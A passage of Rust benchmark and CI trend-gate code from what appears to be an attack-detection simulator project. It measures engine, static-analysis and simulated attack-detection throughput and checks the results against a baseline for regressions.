            "\"interp_steps_per_sec\":{:.0},\"cached_steps_per_sec\":{:.0},",
            "\"speedup\":{:.3},\"quick\":{}}}\n"
        ),
        steps,
        interp,
        cached,
        cached / interp,
        quick()
    );
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_engine.json");
    std::fs::write(path, &json).expect("writes BENCH_engine.json");
    println!(
        "engine: {steps} guest steps; interp {interp:.0} steps/s, \
         cached {cached:.0} steps/s, speedup {:.2}x -> {path}",
        cached / interp
    );
}

criterion_group!(benches, bench_engines);
criterion_main!(benches);
