//! Static-analysis throughput: cold fixpoint runs vs warm proof-cache
//! loads, on the two guests the trend gate tracks (Experiment 1 and
//! ghttpd).
//!
//! The cold number is the full interprocedural summary fixpoint
//! (`ptaint::analyze`); the warm number parses the image's `ptaint-proofs
//! v1` cache entry back into the same [`ptaint::Analysis`]. The whole
//! point of the on-disk cache is that a warm boot skips the fixpoint, so
//! the bench asserts the warm path is at least 10× faster — a structural
//! property, not a tuning target; a miss means the cache is being
//! re-analyzed behind the scenes.
//!
//! Besides the criterion group, a machine-readable summary is written to
//! `BENCH_analyze.json` at the repository root (`*_cold_analyses_per_sec`
//! and `*_warm_loads_per_sec` are tolerance-banded by the trend gate).
//! Set `BENCH_QUICK=1` to shrink iteration counts for CI smoke runs.

use std::fmt::Write as _;
use std::time::Instant;

use criterion::{criterion_group, criterion_main, Criterion};
use ptaint::{proof_cache, Image};
use ptaint_guest::apps::{ghttpd, synthetic};

fn quick() -> bool {
    std::env::var_os("BENCH_QUICK").is_some()
}

/// Timed repetitions per measurement (after one warmup), best-of.
fn reps() -> u32 {
    if quick() {
        2
    } else {
        5
    }
}

/// Best-of-`reps` executions per second of `f`.
fn per_sec<T>(mut f: impl FnMut() -> T) -> f64 {
    let _warmup = f();
    let mut best = f64::MIN;
    for _ in 0..reps() {
        let start = Instant::now();
        let _out = f();
        best = best.max(1.0 / start.elapsed().as_secs_f64());
    }
    best
}

fn guests() -> Vec<(&'static str, Image)> {
    vec![
        (
            "exp1",
            ptaint_guest::build(synthetic::EXP1_SOURCE).expect("exp1 builds"),
        ),
        (
            "ghttpd",
            ptaint_guest::build(ghttpd::SOURCE).expect("ghttpd builds"),
        ),
    ]
}

fn bench_analyze(c: &mut Criterion) {
    let scratch = std::env::temp_dir().join(format!("ptaint-bench-analyze-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&scratch);

    let mut group = c.benchmark_group("analyze");
    group.sample_size(10);
    let mut json = String::from("{\"bench\":\"analyze\"");
    let mut summary = String::new();
    for (name, image) in guests() {
        let cold_analysis = ptaint::analyze(&image);
        proof_cache::store(&scratch, &image, &cold_analysis).expect("cache store succeeds");

        group.bench_function(format!("{name}_cold"), |b| {
            b.iter(|| ptaint::analyze(&image))
        });
        group.bench_function(format!("{name}_warm"), |b| {
            b.iter(|| {
                proof_cache::load(&scratch, &image)
                    .expect("entry parses")
                    .expect("entry exists")
            })
        });

        let cold = per_sec(|| ptaint::analyze(&image));
        let warm = per_sec(|| {
            let loaded = proof_cache::load(&scratch, &image)
                .expect("entry parses")
                .expect("entry exists");
            assert_eq!(loaded, cold_analysis, "warm load drifted from cold run");
            loaded
        });
        let speedup = warm / cold;
        assert!(
            speedup >= 10.0,
            "{name}: warm cache load only {speedup:.1}x faster than the cold fixpoint \
             (cold {cold:.2}/s, warm {warm:.2}/s); the proof cache is not skipping work"
        );
        let _ = write!(
            json,
            ",\"{name}_proven_sites\":{},\"{name}_cold_analyses_per_sec\":{cold:.2},\
             \"{name}_warm_loads_per_sec\":{warm:.2},\"{name}_warm_speedup\":{speedup:.1}",
            cold_analysis.proven.len(),
        );
        let _ = write!(
            summary,
            "{name}: {} proven; cold {cold:.2}/s, warm {warm:.0}/s ({speedup:.0}x)  ",
            cold_analysis.proven.len()
        );
    }
    group.finish();
    let _ = std::fs::remove_dir_all(&scratch);

    let _ = write!(json, ",\"quick\":{}}}", quick());
    json.push('\n');
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_analyze.json");
    std::fs::write(path, &json).expect("writes BENCH_analyze.json");
    println!("analyze: {summary}-> {path}");
}

criterion_group!(benches, bench_analyze);
criterion_main!(benches);
