//! End-to-end experiment benchmarks: how quickly each paper experiment
//! (attack detection, workload run, toolchain build) completes on the
//! simulator.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use ptaint::{DetectionPolicy, Machine};
use ptaint_guest::apps::synthetic;
use ptaint_guest::workloads;

fn bench_attack_detection(c: &mut Criterion) {
    let mut group = c.benchmark_group("detect");
    group.sample_size(20);

    let exp1 = Machine::from_c(synthetic::EXP1_SOURCE)
        .unwrap()
        .world(synthetic::exp1_attack_world());
    group.bench_function("exp1-stack-smash", |b| {
        b.iter(|| {
            let out = exp1.run();
            assert!(out.reason.is_detected());
        })
    });

    let exp2 = Machine::from_c(synthetic::EXP2_SOURCE)
        .unwrap()
        .world(synthetic::exp2_attack_world());
    group.bench_function("exp2-heap-unlink", |b| {
        b.iter(|| {
            let out = exp2.run();
            assert!(out.reason.is_detected());
        })
    });

    let exp3 = Machine::from_c(synthetic::EXP3_SOURCE)
        .unwrap()
        .world(synthetic::exp3_attack_world(1));
    group.bench_function("exp3-format-string", |b| {
        b.iter(|| {
            let out = exp3.run();
            assert!(out.reason.is_detected());
        })
    });
    group.finish();
}

fn bench_workloads(c: &mut Criterion) {
    let mut group = c.benchmark_group("workload");
    group.sample_size(10);
    for w in workloads::all() {
        let machine = Machine::from_c(w.source)
            .unwrap()
            .world(w.world(3))
            .policy(DetectionPolicy::PointerTaintedness);
        group.bench_with_input(BenchmarkId::from_parameter(w.name), &machine, |b, m| {
            b.iter(|| m.run().stats.instructions)
        });
    }
    group.finish();
}

fn bench_optimizer_effect(c: &mut Criterion) {
    // Host-time effect of the guest-level peephole optimizer: fewer guest
    // instructions -> proportionally faster simulation.
    let w = &workloads::all()[1]; // gcc workload: biggest optimizer win
    let plain = Machine::from_c(w.source).unwrap().world(w.world(3));
    let optimized = Machine::from_c_optimized(w.source)
        .unwrap()
        .world(w.world(3));
    let mut group = c.benchmark_group("optimizer");
    group.sample_size(10);
    group.bench_function("gcc-plain", |b| b.iter(|| plain.run().stats.instructions));
    group.bench_function("gcc-optimized", |b| {
        b.iter(|| optimized.run().stats.instructions)
    });
    group.finish();
}

fn bench_toolchain(c: &mut Criterion) {
    let mut group = c.benchmark_group("toolchain");
    group.sample_size(20);
    group.bench_function("compile-exp1", |b| {
        b.iter(|| Machine::from_c(synthetic::EXP1_SOURCE).unwrap())
    });
    group.bench_function("compile-wu-ftpd", |b| {
        b.iter(|| Machine::from_c(ptaint_guest::apps::wu_ftpd::SOURCE).unwrap())
    });
    group.finish();
}

criterion_group!(
    benches,
    bench_attack_detection,
    bench_workloads,
    bench_optimizer_effect,
    bench_toolchain
);
criterion_main!(benches);
