//! (under construction)
