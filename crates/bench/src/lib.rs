#![warn(missing_docs)]

//! # ptaint-bench — benchmark harness and performance-trend gate
//!
//! The criterion benches in `benches/` (`engine`, `overhead`,
//! `experiments`, `campaign`) each drop a machine-readable `BENCH_*.json`
//! summary at the repository root. This library consolidates those
//! summaries — together with fixed-seed fault-injection campaign outcome
//! counts — into a single `TREND.json`, and checks a fresh collection
//! against the checked-in baseline:
//!
//! * campaign outcome counts (`detected` / `missed` / …) are compared
//!   **exactly**: the campaigns are deterministic at a fixed seed, so any
//!   drift is a behaviour change, not measurement noise;
//! * `*_per_sec` throughput fields get a tolerance band (`TREND_TOLERANCE`
//!   env var, default [`DEFAULT_TOLERANCE`]): only a regression below
//!   `baseline * (1 - tolerance)` fails, and the comparison is skipped
//!   when the two sides were measured in different modes (`quick` flags
//!   differ).
//!
//! Driven by the `trend` binary:
//!
//! ```text
//! cargo run -p ptaint-bench --bin trend -- print   # collection to stdout
//! cargo run -p ptaint-bench --bin trend -- write   # refresh TREND.json
//! cargo run -p ptaint-bench --bin trend -- check   # gate vs TREND.json
//! ```

pub mod json;
pub mod trend;

pub use json::Value;
pub use trend::{
    check_trend, collect_benches, collect_campaigns, collect_trend, render_trend, TrendGate,
    DEFAULT_TOLERANCE, TREND_SEED, TREND_TRIALS,
};
