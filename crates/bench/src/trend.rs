//! Performance/robustness trend consolidation and the CI trend gate.
//!
//! [`collect_trend`] produces one `TREND.json` document merging
//!
//! * **campaigns** — fixed-seed deterministic fault-injection campaigns
//!   (Experiment 1 + ghttpd under attack) reduced to outcome-class counts.
//!   Same seed ⇒ byte-identical section; any drift is a behaviour change.
//! * **benches** — every `BENCH_*.json` summary found at the repository
//!   root, in filename order. These carry wall-clock throughput numbers
//!   and are the *documented wall-clock fields*: excluded from exact
//!   identity comparisons, gated only by a tolerance band.
//!
//! [`check_trend`] compares a fresh collection against a checked-in
//! baseline: campaign counts must match exactly; `*_per_sec` fields may
//! not regress below `baseline * (1 - tolerance)` (faster is never a
//! failure). Throughput comparison is skipped when the two sides were
//! measured in different modes (`quick` flags differ), since quick smoke
//! numbers are not comparable to full runs.

use std::path::Path;

use ptaint::{CampaignSpec, Machine, OutcomeClass};
use ptaint_guest::apps::{ghttpd, synthetic};

use crate::json::Value;

/// Campaign seed for the trend rows (fixed: determinism is the point).
pub const TREND_SEED: u64 = 7;

/// Faulted trials per trend campaign — small enough for CI, large enough
/// to hit several fault kinds and outcome classes.
pub const TREND_TRIALS: u64 = 12;

/// Default relative tolerance for `*_per_sec` regressions (CI machines are
/// noisy and shared; only substantial slowdowns should gate).
pub const DEFAULT_TOLERANCE: f64 = 0.5;

/// The fixed trend workloads: (name, machine under attack world).
fn workloads() -> Vec<(&'static str, Machine)> {
    let exp1 = Machine::from_c(synthetic::EXP1_SOURCE)
        .expect("exp1 builds")
        .world(synthetic::exp1_attack_world());
    let ghttpd_m = Machine::from_c(ghttpd::SOURCE).expect("ghttpd builds");
    let world = ghttpd::attack_world(ghttpd_m.image());
    vec![("exp1", exp1), ("ghttpd", ghttpd_m.world(world))]
}

/// Run the fixed-seed campaigns and reduce them to outcome-class counts.
#[must_use]
pub fn collect_campaigns() -> Value {
    let spec = CampaignSpec::new(TREND_SEED, TREND_TRIALS);
    let mut rows = Vec::new();
    for (name, machine) in workloads() {
        let report = machine.run_campaign(&spec);
        let mut counts = Vec::new();
        for class in OutcomeClass::ALL {
            counts.push((
                class.name().to_string(),
                Value::Num(report.count(class) as f64),
            ));
        }
        let row = Value::Obj(vec![
            ("seed".to_string(), Value::Num(TREND_SEED as f64)),
            ("trials".to_string(), Value::Num(TREND_TRIALS as f64)),
            (
                "baseline_detected".to_string(),
                Value::Bool(report.baseline_detected),
            ),
            ("counts".to_string(), Value::Obj(counts)),
        ]);
        rows.push((name.to_string(), row));
    }
    Value::Obj(rows)
}

/// Parse every `BENCH_*.json` at `root` (filename order) into one object
/// keyed by the bench name (`BENCH_engine.json` → `engine`). Unreadable or
/// malformed files are skipped with a note pushed onto `notes`.
pub fn collect_benches(root: &Path, notes: &mut Vec<String>) -> Value {
    let mut names: Vec<String> = match std::fs::read_dir(root) {
        Ok(entries) => entries
            .filter_map(|e| e.ok())
            .filter_map(|e| e.file_name().into_string().ok())
            .filter(|n| n.starts_with("BENCH_") && n.ends_with(".json"))
            .collect(),
        Err(e) => {
            notes.push(format!("cannot list {}: {e}", root.display()));
            Vec::new()
        }
    };
    names.sort();
    let mut rows = Vec::new();
    for file in names {
        let key = file
            .trim_start_matches("BENCH_")
            .trim_end_matches(".json")
            .to_string();
        let path = root.join(&file);
        match std::fs::read_to_string(&path).map_err(|e| e.to_string()) {
            Ok(text) => match Value::parse(&text) {
                Ok(v) => rows.push((key, v)),
                Err(e) => notes.push(format!("skipping {file}: {e}")),
            },
            Err(e) => notes.push(format!("skipping {file}: {e}")),
        }
    }
    Value::Obj(rows)
}

/// Build the full trend document: deterministic campaign counts first,
/// then the wall-clock bench summaries.
pub fn collect_trend(root: &Path, notes: &mut Vec<String>) -> Value {
    Value::Obj(vec![
        ("campaigns".to_string(), collect_campaigns()),
        ("benches".to_string(), collect_benches(root, notes)),
    ])
}

/// Render a trend document as the on-disk `TREND.json` bytes.
#[must_use]
pub fn render_trend(trend: &Value) -> String {
    let mut out = trend.render();
    out.push('\n');
    out
}

/// Outcome of a baseline-vs-current trend comparison.
#[derive(Debug, Default)]
pub struct TrendGate {
    /// Hard failures: exact-count drift or out-of-tolerance regressions.
    pub violations: Vec<String>,
    /// Comparisons skipped with a reason (e.g. quick/full mode mismatch).
    pub skipped: Vec<String>,
    /// Number of individual values compared.
    pub checked: usize,
}

impl TrendGate {
    /// True when the gate passes (no violations; skips are allowed).
    #[must_use]
    pub fn ok(&self) -> bool {
        self.violations.is_empty()
    }
}

/// Compare `current` against `baseline`.
///
/// Campaign fields are exact: seeds, trial counts, `baseline_detected` and
/// every outcome count must match. Bench `*_per_sec` fields fail only when
/// `current < baseline * (1 - tolerance)`; other bench fields are
/// informational. A bench present in the baseline but missing from the
/// current collection is a violation (coverage must not silently shrink);
/// new benches/campaigns in `current` only are fine.
#[must_use]
pub fn check_trend(baseline: &Value, current: &Value, tolerance: f64) -> TrendGate {
    let mut gate = TrendGate::default();

    let empty = Value::Obj(Vec::new());
    let base_camps = baseline.get("campaigns").unwrap_or(&empty);
    let cur_camps = current.get("campaigns").unwrap_or(&empty);
    for (name, base_row) in base_camps.fields() {
        let Some(cur_row) = cur_camps.get(name) else {
            gate.violations
                .push(format!("campaign {name}: missing from current collection"));
            continue;
        };
        check_exact(&mut gate, &format!("campaign {name}"), base_row, cur_row);
    }

    let base_benches = baseline.get("benches").unwrap_or(&empty);
    let cur_benches = current.get("benches").unwrap_or(&empty);
    for (name, base_row) in base_benches.fields() {
        let Some(cur_row) = cur_benches.get(name) else {
            gate.violations
                .push(format!("bench {name}: missing from current collection"));
            continue;
        };
        let base_quick = base_row.get("quick").and_then(Value::as_bool);
        let cur_quick = cur_row.get("quick").and_then(Value::as_bool);
        if base_quick != cur_quick {
            gate.skipped.push(format!(
                "bench {name}: quick/full mode mismatch (baseline quick={base_quick:?}, \
                 current quick={cur_quick:?}); throughput not comparable"
            ));
            continue;
        }
        for (field, base_val) in base_row.fields() {
            if !field.ends_with("_per_sec") {
                continue;
            }
            let Some(base_rate) = base_val.as_f64() else {
                continue;
            };
            gate.checked += 1;
            let floor = base_rate * (1.0 - tolerance);
            match cur_row.get(field).and_then(Value::as_f64) {
                Some(cur_rate) if cur_rate < floor => gate.violations.push(format!(
                    "bench {name}: {field} regressed {cur_rate:.0} < {floor:.0} \
                     (baseline {base_rate:.0}, tolerance {tolerance})"
                )),
                Some(_) => {}
                None => gate.violations.push(format!(
                    "bench {name}: {field} missing from current collection"
                )),
            }
        }
    }
    gate
}

/// Recursive exact comparison for the deterministic campaign rows.
fn check_exact(gate: &mut TrendGate, ctx: &str, base: &Value, cur: &Value) {
    match (base, cur) {
        (Value::Obj(fields), _) => {
            for (k, v) in fields {
                match cur.get(k) {
                    Some(c) => check_exact(gate, &format!("{ctx}.{k}"), v, c),
                    None => gate.violations.push(format!("{ctx}.{k}: missing")),
                }
            }
        }
        _ => {
            gate.checked += 1;
            if base != cur {
                gate.violations.push(format!(
                    "{ctx}: {} -> {} (exact match required)",
                    base.render(),
                    cur.render()
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample(detected: u64, rate: f64, quick: bool) -> Value {
        Value::parse(&format!(
            "{{\"campaigns\":{{\"exp1\":{{\"seed\":7,\"trials\":12,\
             \"baseline_detected\":true,\"counts\":{{\"detected\":{detected},\
             \"missed\":1}}}}}},\"benches\":{{\"engine\":{{\"bench\":\"engine\",\
             \"cached_steps_per_sec\":{rate},\"quick\":{quick}}}}}}}"
        ))
        .unwrap()
    }

    #[test]
    fn identical_documents_pass() {
        let gate = check_trend(&sample(9, 5e7, false), &sample(9, 5e7, false), 0.5);
        assert!(gate.ok(), "{:?}", gate.violations);
        assert!(gate.checked >= 5);
        assert!(gate.skipped.is_empty());
    }

    #[test]
    fn campaign_count_drift_is_exact_failure() {
        let gate = check_trend(&sample(9, 5e7, false), &sample(8, 5e7, false), 0.5);
        assert_eq!(gate.violations.len(), 1);
        assert!(gate.violations[0].contains("campaign exp1.counts.detected"));
    }

    #[test]
    fn throughput_band_gates_only_regressions() {
        // 40% slower with tolerance 0.5: inside the band.
        let gate = check_trend(&sample(9, 5e7, false), &sample(9, 3e7, false), 0.5);
        assert!(gate.ok(), "{:?}", gate.violations);
        // 60% slower: out of tolerance.
        let gate = check_trend(&sample(9, 5e7, false), &sample(9, 2e7, false), 0.5);
        assert_eq!(gate.violations.len(), 1);
        assert!(gate.violations[0].contains("cached_steps_per_sec regressed"));
        // Faster never fails.
        let gate = check_trend(&sample(9, 5e7, false), &sample(9, 9e7, false), 0.5);
        assert!(gate.ok());
    }

    #[test]
    fn mode_mismatch_skips_throughput_but_keeps_counts() {
        let gate = check_trend(&sample(9, 5e7, false), &sample(8, 1e3, true), 0.5);
        assert_eq!(gate.skipped.len(), 1);
        assert!(gate.skipped[0].contains("mode mismatch"));
        // The campaign drift still fails — skipping covers throughput only.
        assert_eq!(gate.violations.len(), 1);
        assert!(gate.violations[0].contains("counts.detected"));
    }

    #[test]
    fn missing_bench_or_campaign_is_a_violation() {
        let empty = Value::parse("{\"campaigns\":{},\"benches\":{}}").unwrap();
        let gate = check_trend(&sample(9, 5e7, false), &empty, 0.5);
        assert!(gate
            .violations
            .iter()
            .any(|v| v.contains("campaign exp1: missing")));
        assert!(gate
            .violations
            .iter()
            .any(|v| v.contains("bench engine: missing")));
        // The reverse direction (new coverage in current) is fine.
        let gate = check_trend(&empty, &sample(9, 5e7, false), 0.5);
        assert!(gate.ok());
    }

    #[test]
    fn campaign_collection_is_deterministic_and_detects() {
        let a = collect_campaigns();
        let b = collect_campaigns();
        assert_eq!(a.render(), b.render());
        for name in ["exp1", "ghttpd"] {
            let row = a.get(name).unwrap();
            assert_eq!(row.get("baseline_detected").unwrap().as_bool(), Some(true));
            let counts = row.get("counts").unwrap();
            let total: f64 = counts
                .fields()
                .iter()
                .map(|(_, v)| v.as_f64().unwrap())
                .sum();
            assert_eq!(total, TREND_TRIALS as f64, "{name} counts cover all trials");
        }
    }
}
