//! Performance/robustness trend consolidation and the CI trend gate.
//!
//! [`collect_trend`] produces one `TREND.json` document merging
//!
//! * **campaigns** — fixed-seed deterministic fault-injection campaigns
//!   (Experiment 1 + ghttpd under attack) reduced to outcome-class counts.
//!   Same seed ⇒ byte-identical section; any drift is a behaviour change.
//! * **analysis** — per-guest static-analysis precision: proven / flagged
//!   / unresolved site counts for the four pinned guest apps. The
//!   analyzer is deterministic, so these are exact like the campaign
//!   counts; a drop in `proven` is a precision regression the gate
//!   catches even when the lint goldens were (deliberately) regenerated.
//! * **benches** — every `BENCH_*.json` summary found at the repository
//!   root, in filename order. These carry wall-clock throughput numbers
//!   and are the *documented wall-clock fields*: excluded from exact
//!   identity comparisons, gated only by a tolerance band. (The analyzer's
//!   cold/warm throughput rides here via `BENCH_analyze.json`.)
//!
//! [`check_trend`] compares a fresh collection against a checked-in
//! baseline: campaign and analysis counts must match exactly; `*_per_sec`
//! fields may not regress below `baseline * (1 - tolerance)` (faster is
//! never a failure). Throughput comparison is skipped when the two sides
//! were measured in different modes (`quick` flags differ), since quick
//! smoke numbers are not comparable to full runs.

use std::path::Path;

use ptaint::{CampaignSpec, Machine, OutcomeClass};
use ptaint_guest::apps::{ghttpd, null_httpd, synthetic, wu_ftpd};

use crate::json::Value;

/// Campaign seed for the trend rows (fixed: determinism is the point).
pub const TREND_SEED: u64 = 7;

/// Faulted trials per trend campaign — small enough for CI, large enough
/// to hit several fault kinds and outcome classes.
pub const TREND_TRIALS: u64 = 12;

/// Default relative tolerance for `*_per_sec` regressions (CI machines are
/// noisy and shared; only substantial slowdowns should gate).
pub const DEFAULT_TOLERANCE: f64 = 0.5;

/// The fixed trend workloads: (name, machine under attack world).
fn workloads() -> Vec<(&'static str, Machine)> {
    let exp1 = Machine::from_c(synthetic::EXP1_SOURCE)
        .expect("exp1 builds")
        .world(synthetic::exp1_attack_world());
    let ghttpd_m = Machine::from_c(ghttpd::SOURCE).expect("ghttpd builds");
    let world = ghttpd::attack_world(ghttpd_m.image());
    vec![("exp1", exp1), ("ghttpd", ghttpd_m.world(world))]
}

/// Run the fixed-seed campaigns and reduce them to outcome-class counts.
#[must_use]
pub fn collect_campaigns() -> Value {
    let spec = CampaignSpec::new(TREND_SEED, TREND_TRIALS);
    let mut rows = Vec::new();
    for (name, machine) in workloads() {
        let report = machine.run_campaign(&spec);
        let mut counts = Vec::new();
        for class in OutcomeClass::ALL {
            counts.push((
                class.name().to_string(),
                Value::Num(report.count(class) as f64),
            ));
        }
        let row = Value::Obj(vec![
            ("seed".to_string(), Value::Num(TREND_SEED as f64)),
            ("trials".to_string(), Value::Num(TREND_TRIALS as f64)),
            (
                "baseline_detected".to_string(),
                Value::Bool(report.baseline_detected),
            ),
            ("counts".to_string(), Value::Obj(counts)),
        ]);
        rows.push((name.to_string(), row));
    }
    Value::Obj(rows)
}

/// Analyze the four pinned guest apps and reduce each to its precision
/// counts. Deterministic (the parallel fixpoint merges in wave order), so
/// the gate compares these exactly.
#[must_use]
pub fn collect_analysis() -> Value {
    let guests: [(&str, &str); 4] = [
        ("exp1", synthetic::EXP1_SOURCE),
        ("ghttpd", ghttpd::SOURCE),
        ("null_httpd", null_httpd::SOURCE),
        ("wu_ftpd", wu_ftpd::SOURCE),
    ];
    let mut rows = Vec::new();
    for (name, source) in guests {
        let image = ptaint_guest::build(source).expect("pinned guest builds");
        let a = ptaint::analyze(&image);
        let s = &a.stats;
        let row = Value::Obj(vec![
            (
                "sites".to_string(),
                Value::Num((s.load_store_sites + s.register_jump_sites) as f64),
            ),
            ("proven".to_string(), Value::Num(s.proven_sites as f64)),
            ("flagged".to_string(), Value::Num(s.flagged_sites as f64)),
            (
                "unresolved".to_string(),
                Value::Num(s.unresolved_sites as f64),
            ),
        ]);
        rows.push((name.to_string(), row));
    }
    Value::Obj(rows)
}

/// Parse every `BENCH_*.json` at `root` (filename order) into one object
/// keyed by the bench name (`BENCH_engine.json` → `engine`). Unreadable or
/// malformed files are skipped with a note pushed onto `notes`.
pub fn collect_benches(root: &Path, notes: &mut Vec<String>) -> Value {
    let mut names: Vec<String> = match std::fs::read_dir(root) {
        Ok(entries) => entries
            .filter_map(|e| e.ok())
            .filter_map(|e| e.file_name().into_string().ok())
            .filter(|n| n.starts_with("BENCH_") && n.ends_with(".json"))
            .collect(),
        Err(e) => {
            notes.push(format!("cannot list {}: {e}", root.display()));
            Vec::new()
        }
    };
    names.sort();
    let mut rows = Vec::new();
    for file in names {
        let key = file
            .trim_start_matches("BENCH_")
            .trim_end_matches(".json")
            .to_string();
        let path = root.join(&file);
        match std::fs::read_to_string(&path).map_err(|e| e.to_string()) {
            Ok(text) => match Value::parse(&text) {
                Ok(v) => rows.push((key, v)),
                Err(e) => notes.push(format!("skipping {file}: {e}")),
            },
            Err(e) => notes.push(format!("skipping {file}: {e}")),
        }
    }
    Value::Obj(rows)
}

/// Build the full trend document: deterministic campaign and analysis
/// counts first, then the wall-clock bench summaries.
pub fn collect_trend(root: &Path, notes: &mut Vec<String>) -> Value {
    Value::Obj(vec![
        ("campaigns".to_string(), collect_campaigns()),
        ("analysis".to_string(), collect_analysis()),
        ("benches".to_string(), collect_benches(root, notes)),
    ])
}

/// Render a trend document as the on-disk `TREND.json` bytes.
#[must_use]
pub fn render_trend(trend: &Value) -> String {
    let mut out = trend.render();
    out.push('\n');
    out
}

/// Outcome of a baseline-vs-current trend comparison.
#[derive(Debug, Default)]
pub struct TrendGate {
    /// Hard failures: exact-count drift or out-of-tolerance regressions.
    pub violations: Vec<String>,
    /// Comparisons skipped with a reason (e.g. quick/full mode mismatch).
    pub skipped: Vec<String>,
    /// Number of individual values compared.
    pub checked: usize,
}

impl TrendGate {
    /// True when the gate passes (no violations; skips are allowed).
    #[must_use]
    pub fn ok(&self) -> bool {
        self.violations.is_empty()
    }
}

/// Compare `current` against `baseline`.
///
/// Campaign and analysis fields are exact: seeds, trial counts,
/// `baseline_detected`, every outcome count and every per-guest precision
/// count must match. Bench `*_per_sec` fields fail only when
/// `current < baseline * (1 - tolerance)`; other bench fields are
/// informational. A bench present in the baseline but missing from the
/// current collection is a violation (coverage must not silently shrink);
/// new benches/campaigns in `current` only are fine.
#[must_use]
pub fn check_trend(baseline: &Value, current: &Value, tolerance: f64) -> TrendGate {
    let mut gate = TrendGate::default();

    let empty = Value::Obj(Vec::new());
    let base_camps = baseline.get("campaigns").unwrap_or(&empty);
    let cur_camps = current.get("campaigns").unwrap_or(&empty);
    for (name, base_row) in base_camps.fields() {
        let Some(cur_row) = cur_camps.get(name) else {
            gate.violations
                .push(format!("campaign {name}: missing from current collection"));
            continue;
        };
        check_exact(&mut gate, &format!("campaign {name}"), base_row, cur_row);
    }

    let base_analysis = baseline.get("analysis").unwrap_or(&empty);
    let cur_analysis = current.get("analysis").unwrap_or(&empty);
    for (name, base_row) in base_analysis.fields() {
        let Some(cur_row) = cur_analysis.get(name) else {
            gate.violations
                .push(format!("analysis {name}: missing from current collection"));
            continue;
        };
        check_exact(&mut gate, &format!("analysis {name}"), base_row, cur_row);
    }

    let base_benches = baseline.get("benches").unwrap_or(&empty);
    let cur_benches = current.get("benches").unwrap_or(&empty);
    for (name, base_row) in base_benches.fields() {
        let Some(cur_row) = cur_benches.get(name) else {
            gate.violations
                .push(format!("bench {name}: missing from current collection"));
            continue;
        };
        let base_quick = base_row.get("quick").and_then(Value::as_bool);
        let cur_quick = cur_row.get("quick").and_then(Value::as_bool);
        if base_quick != cur_quick {
            gate.skipped.push(format!(
                "bench {name}: quick/full mode mismatch (baseline quick={base_quick:?}, \
                 current quick={cur_quick:?}); throughput not comparable"
            ));
            continue;
        }
        for (field, base_val) in base_row.fields() {
            if !field.ends_with("_per_sec") {
                continue;
            }
            let Some(base_rate) = base_val.as_f64() else {
                continue;
            };
            gate.checked += 1;
            let floor = base_rate * (1.0 - tolerance);
            match cur_row.get(field).and_then(Value::as_f64) {
                Some(cur_rate) if cur_rate < floor => gate.violations.push(format!(
                    "bench {name}: {field} regressed {cur_rate:.0} < {floor:.0} \
                     (baseline {base_rate:.0}, tolerance {tolerance})"
                )),
                Some(_) => {}
                None => gate.violations.push(format!(
                    "bench {name}: {field} missing from current collection"
                )),
            }
        }
    }
    gate
}

/// Recursive exact comparison for the deterministic campaign rows.
fn check_exact(gate: &mut TrendGate, ctx: &str, base: &Value, cur: &Value) {
    match (base, cur) {
        (Value::Obj(fields), _) => {
            for (k, v) in fields {
                match cur.get(k) {
                    Some(c) => check_exact(gate, &format!("{ctx}.{k}"), v, c),
                    None => gate.violations.push(format!("{ctx}.{k}: missing")),
                }
            }
        }
        _ => {
            gate.checked += 1;
            if base != cur {
                gate.violations.push(format!(
                    "{ctx}: {} -> {} (exact match required)",
                    base.render(),
                    cur.render()
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample(detected: u64, rate: f64, quick: bool) -> Value {
        Value::parse(&format!(
            "{{\"campaigns\":{{\"exp1\":{{\"seed\":7,\"trials\":12,\
             \"baseline_detected\":true,\"counts\":{{\"detected\":{detected},\
             \"missed\":1}}}}}},\"benches\":{{\"engine\":{{\"bench\":\"engine\",\
             \"cached_steps_per_sec\":{rate},\"quick\":{quick}}}}}}}"
        ))
        .unwrap()
    }

    #[test]
    fn identical_documents_pass() {
        let gate = check_trend(&sample(9, 5e7, false), &sample(9, 5e7, false), 0.5);
        assert!(gate.ok(), "{:?}", gate.violations);
        assert!(gate.checked >= 5);
        assert!(gate.skipped.is_empty());
    }

    #[test]
    fn campaign_count_drift_is_exact_failure() {
        let gate = check_trend(&sample(9, 5e7, false), &sample(8, 5e7, false), 0.5);
        assert_eq!(gate.violations.len(), 1);
        assert!(gate.violations[0].contains("campaign exp1.counts.detected"));
    }

    #[test]
    fn throughput_band_gates_only_regressions() {
        // 40% slower with tolerance 0.5: inside the band.
        let gate = check_trend(&sample(9, 5e7, false), &sample(9, 3e7, false), 0.5);
        assert!(gate.ok(), "{:?}", gate.violations);
        // 60% slower: out of tolerance.
        let gate = check_trend(&sample(9, 5e7, false), &sample(9, 2e7, false), 0.5);
        assert_eq!(gate.violations.len(), 1);
        assert!(gate.violations[0].contains("cached_steps_per_sec regressed"));
        // Faster never fails.
        let gate = check_trend(&sample(9, 5e7, false), &sample(9, 9e7, false), 0.5);
        assert!(gate.ok());
    }

    #[test]
    fn mode_mismatch_skips_throughput_but_keeps_counts() {
        let gate = check_trend(&sample(9, 5e7, false), &sample(8, 1e3, true), 0.5);
        assert_eq!(gate.skipped.len(), 1);
        assert!(gate.skipped[0].contains("mode mismatch"));
        // The campaign drift still fails — skipping covers throughput only.
        assert_eq!(gate.violations.len(), 1);
        assert!(gate.violations[0].contains("counts.detected"));
    }

    #[test]
    fn missing_bench_or_campaign_is_a_violation() {
        let empty = Value::parse("{\"campaigns\":{},\"benches\":{}}").unwrap();
        let gate = check_trend(&sample(9, 5e7, false), &empty, 0.5);
        assert!(gate
            .violations
            .iter()
            .any(|v| v.contains("campaign exp1: missing")));
        assert!(gate
            .violations
            .iter()
            .any(|v| v.contains("bench engine: missing")));
        // The reverse direction (new coverage in current) is fine.
        let gate = check_trend(&empty, &sample(9, 5e7, false), 0.5);
        assert!(gate.ok());
    }

    #[test]
    fn analysis_count_drift_is_exact_failure() {
        let with_proven = |proven: u64| {
            Value::parse(&format!(
                "{{\"analysis\":{{\"exp1\":{{\"sites\":1713,\"proven\":{proven},\
                 \"flagged\":204,\"unresolved\":0}}}}}}"
            ))
